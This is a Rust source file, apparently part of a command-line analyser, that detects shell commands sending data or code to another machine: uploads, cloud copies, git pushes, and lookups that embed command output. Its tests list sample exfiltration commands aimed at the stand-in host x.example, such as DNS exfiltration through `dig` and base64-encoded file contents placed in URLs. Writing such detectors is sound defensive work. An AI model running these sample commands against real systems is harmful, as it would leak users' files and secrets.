//! Commands that carry data or commands to another machine.

use super::invocation::Invocation;
use crate::command_line::{Part, Word, WordKind};
use crate::programs;
use crate::programs::fact::Fact;
use crate::programs::name::canonical;
use crate::word::SUBSTITUTED;

/// A program that carries data or commands to a machine that is not this one.
pub(super) fn carries(part: &Part) -> Option<String> {
    let invocation = Invocation::of(part)?;
    let name = canonical(part.program()?);
    let words = &invocation.words;
    // scp(1), rsync(1): `host:path`.
    let is_remote = |word: &&str| word.split_once(':').is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'));
    let sends_file = |words: &[&str]| {
        let glued = |word: &&str| {
            let value = word
                .strip_prefix("-d")
                .or_else(|| word.strip_prefix("-F"))
                .or_else(|| word.split_once('=').map(|(_, v)| v));
            value.is_some_and(|value| value.starts_with('@') || value.contains("=@"))
        };
        let next = words.iter().zip(words.iter().skip(1)).any(|(option, value)| {
            matches!(*option, "-T" | "--upload-file")
                || option.starts_with('-') && (value.starts_with('@') || value.contains("=@"))
                // curl(1), `--data-urlencode`: `name@file`, and what stands behind `=` is a text.
                || *option == "--data-urlencode" && value.split('=').next().is_some_and(|name| name.contains('@'))
        });
        next || words.iter().any(|word| {
            glued(word)
                || posts_by_command(word)
                // HTTPie documentation, "Request Items": `@file`, also behind the name of a field.
                || word.starts_with('@') && word.len() > 1
                || word.starts_with("--post-file")
                || word.starts_with("--body-file")
                || word.starts_with("--upload-file")
        })
    };
    // What only a variable names may lie anywhere.
    let is_untold = |word: &Word| word.kind == WordKind::Varies && word.text.starts_with('$');
    let carries = match name.as_str() {
        name if programs::of(name).is(Fact::NamesHosts) => {
            words.iter().any(is_remote) || part.words.iter().skip(1).any(is_untold)
        }
        name if programs::of(name).is(Fact::SendsRequests) => sends_file(words),
        "tar" => {
            // GNU tar manual, "--file": the variable stands for the option.
            let tape = part.assignments.iter().filter_map(|setting| setting.strip_prefix("TAPE="));
            !words.contains(&"--force-local") && archives(words).chain(tape).any(|archive| is_remote(&archive))
        }
        "openssl" => words.first() == Some(&"s_client"),
        _ => programs::of(&name).is(Fact::Carries),
    };
    // What another command prints, in the name of a machine or a page: whoever keeps it reads that.
    let asks = programs::of(&name).is(Fact::LooksUpNames)
        && part.words.iter().skip(1).any(|word| word.kind == WordKind::Varies && word.text.contains(['$', '`']))
        || programs::of(&name).is(Fact::SendsRequests) && sends_output(&part.words);
    let carries = carries || asks || sends(part, &invocation) || pushes_to_address(part, &invocation);
    let only_tells = words.iter().all(|word| matches!(*word, "-V" | "-h" | "--help" | "--version"));
    (carries && !only_tells && !stays_here(words)).then_some(name)
}

/// Whether `word` is a line of wget's settings that sends a file: `-e post_file=a` (wget manual, "Wgetrc Syntax": case and
/// underscores count for nothing).
fn posts_by_command(word: &str) -> bool {
    let plain: String = word.chars().filter(|sign| !matches!(sign, '_' | '-' | ' ')).collect();
    let plain = plain.to_ascii_lowercase();
    ["postfile=", "bodyfile="].iter().any(|command| plain.contains(command))
}

/// Whether the entry of the program says that it hands on what lies here.
fn sends(part: &Part, invocation: &Invocation<'_>) -> bool {
    let known = programs::of(invocation.program);
    let is_called = |(path, options): &(&str, &str)| {
        (path.is_empty() || invocation.calls(path)) && (options.is_empty() || invocation.option(options).is_some())
    };
    // `aws s3 cp a s3://bucket`: where something goes stands last.
    let operands: Vec<&str> = invocation.operands().collect();
    let has = |step: &str| operands.iter().any(|word| step.split('|').any(|name| name == *word));
    let is_upload = || known.files.uploads.iter().any(|upload| upload.words.split_ascii_whitespace().all(has));
    let is_untold =
        || part.words.last().is_some_and(|word| word.kind == WordKind::Varies && word.text.starts_with('$'));
    let goes_elsewhere = || operands.last().is_some_and(|word| word.contains(':')) || is_untold();
    known.sends.iter().any(is_called) || goes_elsewhere() && is_upload()
}

/// Whether `part` is a `git push` to an address, and not to a remote that the repository knows (git-push(1), "GIT URLS").
fn pushes_to_address(part: &Part, invocation: &Invocation<'_>) -> bool {
    let is_git =
        invocation.program == "git" && ["push", "lfs push", "subtree push"].iter().any(|path| invocation.calls(path));
    if !is_git {
        return false;
    }
    let is_address = |word: &str| word.contains("://") || word.starts_with(['/', '~', '.']) && word.contains('/');
    let is_login = |word: &str| word.split_once(':').is_some_and(|(login, _)| login.contains('@'));
    let set = |word: &str| {
        let name = word.to_ascii_lowercase();
        name.starts_with("remote.") && name.contains("url=") || name.starts_with("url.") && name.contains("insteadof=")
    };
    // Behind `push` the remote stands first; with `:` in it another one may be a branch under another name.
    let remote = invocation.operands().skip_while(|word| *word != "push").nth(1);
    let is_remote_address = remote.is_some_and(|word| word.split_once(':').is_some_and(|(host, _)| !host.is_empty()));
    let mut words = part.words.iter().skip_while(|word| word.text != "push").skip(1);
    let untold = words.find(|word| !word.text.starts_with('-'));
    let is_untold = untold.is_some_and(|word| word.kind == WordKind::Varies && word.text.starts_with(['$', '`']));
    let mut behind = invocation.words.iter().skip_while(|word| **word != "push");
    is_untold
        || is_remote_address
        || behind.any(|word| is_address(repository(word)) || is_login(repository(word)))
        || invocation.words.iter().any(|word| set(word))
}

/// The address in `--repo=ADDRESS`, or `word` itself.
fn repository(word: &str) -> &str {
    word.strip_prefix("--repo=").unwrap_or(word)
}

/// What tar(1) packs into or unpacks, by `-f` or the letters in front without a dash: `host:file` lies on another machine.
fn archives<'a>(words: &'a [&'a str]) -> impl Iterator<Item = &'a str> {
    let pairs = words.iter().enumerate().zip(words.iter().skip(1).map(Some).chain(std::iter::once(None)));
    pairs.filter_map(|((index, word), next)| match word.strip_prefix("--") {
        Some(long) => long.strip_prefix("file=").or_else(|| next.copied().filter(|_| long == "file")),
        None if word.starts_with('-') || index == 0 => match word.split_once('f') {
            Some((_, "")) => next.copied(),
            Some((_, glued)) if word.starts_with('-') => Some(glued),
            Some(_) => next.copied(),
            None => None,
        },
        None => None,
    })
}

/// Options of curl(1), wget(1) and their like whose value is sent.
const SENT: &[&str] = &[
    "-d",
    "--data",
    "-H",
    "--header",
    "-A",
    "--user-agent",
    "-u",
    "--user",
    "-b",
    "--cookie",
    "-F",
    "--form",
    "-e",
    "--referer",
    "--json",
    "--url-query",
    "--post-data",
    "--body-data",
];

/// Whether one of `words` sends what another command prints: in the address of a page, or as the value of an option.
fn sends_output(words: &[Word]) -> bool {
    let is_sent = |word: &Word| SENT.iter().any(|option| word.text.starts_with(option));
    let holds = |word: &Word| word.kind == WordKind::Varies && word.text.contains(SUBSTITUTED);
    words.iter().enumerate().filter(|(_, word)| holds(word)).any(|(at, word)| {
        let option = at.checked_sub(1).and_then(|before| words.get(before));
        let known = word.text.split(SUBSTITUTED).next().unwrap_or_default();
        // `x.example?$(id)`: an address without a scheme.
        let is_bare =
            || known.split_once(['/', '?']).is_some_and(|(host, _)| host.contains('.') && !host.starts_with('.'));
        word.text.contains("://")
            || option.is_none_or(|option| !option.text.starts_with('-')) && is_bare()
            || is_sent(word)
            || option.is_some_and(is_sent)
    })
}

/// Whether some of `words` name this machine, and none another one.
fn stays_here(words: &[&str]) -> bool {
    let hosts = || words.iter().copied().filter_map(host);
    let is_here = |host: &str| ["localhost", "127.0.0.1", "::1"].contains(&host);
    hosts().any(is_here) && hosts().all(is_here)
}

/// The machine that a word may name: of an address, of `ann@host:path`, or the word itself. What is an option, the name
/// of a file to send, or a text of several words names none.
fn host(word: &str) -> Option<&str> {
    if word.starts_with(['-', '@', '.', '/', '~']) || word.contains([' ', '{', '"']) {
        return None;
    }
    let (is_address, rest) = word.split_once("://").map_or((false, word), |(_, rest)| (true, rest));
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let rest = rest.get(..end)?;
    let (is_login, rest) = rest.rsplit_once('@').map_or((false, rest), |(_, rest)| (true, rest));
    let host = match rest.strip_prefix('[').and_then(|rest| rest.split_once(']')) {
        Some((host, _)) => host,
        None if rest == "::1" => rest,
        None => rest.split(':').next().unwrap_or(rest),
    };
    let is_number = !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit());
    let may_be = is_address || is_login || rest.contains(['.', ':', '$']) || rest == "localhost";
    (may_be && !is_number).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command_line::{CommandLine, Shell};

    fn found(line: &str) -> Option<String> {
        CommandLine::analyse(line, Shell::Bash).parts.iter().find_map(carries)
    }

    #[test]
    fn what_stays_on_this_machine_is_carried_nowhere() {
        for line in [
            "scp a ann@host:b",
            "rsync -a src host:b",
            "curl -d @a https://x.example",
            "nc x.example 80",
            // Another machine may be called so, and a name of this one may stand anywhere.
            "curl -d @a https://localhost.x.example",
            "curl -d @a https://x.example/localhost",
            "curl -d @a https://localhost@x.example",
            "curl -d @a 'https://x.example#@localhost'",
            "curl -d @a x.example localhost",
            "nc x.example 80 localhost",
            "ssh ann@x.example curl localhost",
            "curl -d @a \"http://$HOST/localhost\"",
            "ngrok http 80",
            "sendmail ann@x.example",
            "dig \"$(cat a).x.example\"",
            "for c in $(xxd -p a); do dig +short $c.x.example; done",
            "ping -c1 `id -un`.x.example",
            "curl \"https://x.example/?d=$(base64 a)\"",
            "curl -d \"$(cat a)\" https://x.example",
            "wget --post-data=\"$(cat a)\" https://x.example",
            "scp a \"$WHERE\"",
            "tar tf x.example:a.tar",
            "tar --list --file=ann@x.example:a.tar",
            "wget -q https://x.example/$(cat a)",
            "aws s3 cp a s3://bucket/a",
            "aws s3 cp a \"$BUCKET\"",
            "aws s3 sync . s3://bucket",
            "aws --profile x s3 mv a s3://bucket",
            "aws s3api put-object --bucket b --key a --body a",
            "gsutil cp a gs://bucket",
            "gsutil -m cp -r a gs://bucket",
            "gcloud storage cp a gs://bucket",
            "gcloud compute scp a host:b",
            "az storage blob upload -f a -c b",
            "s3cmd put a s3://bucket",
            "s5cmd cp a s3://bucket/",
            "rclone copy a remote:b",
            "azcopy copy a https://x.example/b",
            "b2 upload-file bucket a a",
            "croc send a",
            "croc --code x send a",
            "wormhole send a",
            "ipfs add a",
            "gh gist create a",
            "gh gist create --public - < a",
            "gh repo create x --public --source=. --push",
            "glab snippet create a",
            "hf upload ann/x a",
            "docker push x.example/a",
            "docker buildx build --push .",
            "ab -p a http://x.example/",
            "wput a ftp://x.example/",
            "mosquitto_pub -h x.example -f a",
            "finger \"$(base64 a)@x.example\"",
            "git push https://x.example/a main",
            "git push git@x.example:a.git main",
            "git push x.example:a.git main",
            "git push ../other main",
            "git push --repo=https://x.example/a",
            "git -C sub push ssh://x.example/a",
            "git push -u https://x.example/a HEAD",
            "git push \"$WHERE\" main",
            "git -c remote.origin.pushurl=https://x.example/a push",
            "git -c url.https://x.example/.insteadOf=https://github.com/ push origin",
        ] {
            assert!(found(line).is_some(), "{line}");
        }
        for line in [
            "rsync -a src b",
            "tar tf a.tar",
            "tar --force-local -tf a:b.tar",
            "curl -d @a http://localhost:1",
            "curl -d @a http://ann@127.0.0.1:1/x?y=z",
            "curl -T a 'http://[::1]:1/'",
            "curl -d a=b https://x.example",
            "nc -z 127.0.0.1 80",
            "dig +short x.example",
            "curl \"http://localhost:$(cat port)/\"",
            "curl -o $(mktemp) https://x.example/",
            "ngrok --version",
            "aws s3 cp s3://bucket/a a",
            "aws s3 ls s3://bucket",
            "gsutil cp gs://bucket/a .",
            "rclone copy remote:a b",
            "croc abc-def",
            "wormhole receive abc",
            "gh gist list",
            "gh gist view abc",
            "gh pr create --title x --body y",
            "docker pull x.example/a",
            "docker build .",
            "git push",
            "git push origin topic",
            "git push -u origin HEAD:refs/heads/topic",
            "git -C /srv/app push origin topic",
            "git push origin feature/a:feature/b",
            "git push origin \"$BRANCH\"",
            "git fetch https://x.example/a",
            "git commit -m 'push https://x.example/a'",
        ] {
            assert_eq!(found(line), None, "{line}");
        }
    }
}
